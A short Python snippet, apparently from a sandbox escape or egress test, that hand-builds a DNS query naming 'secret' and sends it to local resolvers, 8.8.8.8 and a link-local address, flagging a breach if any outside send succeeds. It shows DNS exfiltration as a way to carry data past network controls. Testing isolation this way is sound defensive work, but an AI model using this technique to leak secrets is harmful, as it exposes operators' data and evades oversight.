# Sends a secret out by asking for names.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for host in ("127.0.0.1", "127.0.0.11", "127.0.0.53", "8.8.8.8", "169.254.169.253"):
    try:
        s.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7example\3com\0\0\1\0\1", (host, 53))
        if not host.startswith("127."):
            breach(f"sent to {host}")
    except OSError:
        pass
